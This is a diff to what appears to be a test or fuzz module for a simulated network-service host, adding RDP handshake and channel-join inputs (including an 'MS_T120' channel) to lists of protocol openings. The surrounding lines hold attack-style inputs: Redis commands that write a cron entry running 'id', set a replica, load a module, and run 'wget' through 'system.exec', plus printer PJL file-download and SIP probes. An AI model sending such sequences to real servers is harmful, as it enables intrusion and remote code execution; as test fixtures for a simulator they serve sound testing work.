@@ -20,7 +20,7 @@ from eudaemon.wire import Purse
 from eudaemon.world.host import Host
 from eudaemon.world.outside import Downloaded
 from eudaemon.world.seed import Seed
-from protocols import ssh_client
+from protocols import rdp_client, ssh_client
 from protocols.adb_client import CONNECT, frame
 
 HOST = Host.from_seed(Seed(b"test"))
@@ -83,6 +83,11 @@ OPENINGS: dict[str, tuple[bytes, ...]] = {
         b"\x1b%-12345X@PJL ", b"INFO ID\r\n", b'@PJL FSDOWNLOAD FORMAT:BINARY SIZE=9 NAME="0:/a"\r\nabc', b"defghi",
         b"@PJL ENTER LANGUAGE=PCL\r\n", b"\x1bE\x1b%-12",
     ),
+    "rdp": (
+        rdp_client.request(b"mstshash=a", 3)[:9], rdp_client.request(b"mstshash=a", 3)[9:],
+        rdp_client.connect("rdpdr", "MS_T120"), rdp_client.ERECT, rdp_client.ATTACH, rdp_client.join(1004),
+        rdp_client.send(1003, rdp_client.info("", "a", "b")), rdp_client.send(1005, b"abc"),
+    ),
     "redis": (
         b"*2\r\n", b"$3\r\nGET\r\n$5\r\n", b"abcde\r\n", b"config set dir /etc/cron.d\r\n", b"set x '* * * * * id'\r\n",
         b"slaveof 192.0.2.9 1\r\nmodule load x\r\n", b"*2\r\n$11\r\nsystem.exec\r\n$15\r\nwget http://a/b\r\n",
@@ -124,6 +129,8 @@ WORDS = [
     b"SETUP / RTSP/1.0\r\nTransport: RTP/AVP\r\n\r\n", b"$\0\0\1a",
     b"OPTIONS sip:a SIP/2.0\r\n\r\n", b"INVITE sip:00442031234567@a SIP/2.0\r\nContent-Length: 2\r\n\r\nab",
     b"REGISTER sip:a SIP/2.0\r\nAuthorization: Digest username=a, nonce=b, response=c\r\n\r\n", b"RFB 003.008\n",
+    rdp_client.request(), rdp_client.connect("a"), rdp_client.ATTACH,
+    rdp_client.send(1003, rdp_client.info("a", "b", "c")),
     b"\1", b"\2", b"\3\0\0\0\0\0\0\x09\0\x09", b"\4\1\0\0\0\0\0a", b"\6\0\0\0\0\0\0\3abc",
 ]  # fmt: skip
 
